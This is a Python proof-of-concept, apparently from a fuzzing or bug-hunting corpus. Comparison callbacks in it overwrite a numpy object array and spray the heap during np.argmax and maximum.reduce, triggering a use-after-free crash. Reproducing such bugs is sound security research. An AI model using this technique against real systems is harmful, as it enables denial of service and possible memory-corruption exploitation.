# source: numpy argmax / maximum.reduce over object arrays call rich comparisons while holding item pointers; ChainMap.__len__ iterating a map() object
# family: callback in an allowed comparison: __lt__/__gt__ that only compare len() of a ChainMap run script code that overwrites the array being reduced (use-after-free)
# goal: SIGSEGV in np.argmax over an object array
import collections
import numpy as np
ARR = np.empty(0, dtype=object)
SPRAY = []
class B:
    def __init__(self):
        self.w = 1
def hook(k):
    ARR[:] = 0
    for i in range(64):
        SPRAY.append(B())
    return k
class A:
    def __init__(self, v):
        self.v = v
        self.m = collections.ChainMap(map(hook, [0]))
    def __lt__(self, other):
        return len(self.m) < len(other.m)
    def __gt__(self, other):
        return len(self.m) > len(other.m)
ARR = np.empty(8, dtype=object)
for i in range(8):
    ARR[i] = A(i)
print("argmax over objects", flush=True)
print(np.argmax(ARR))
print(np.maximum.reduce(ARR.copy()))
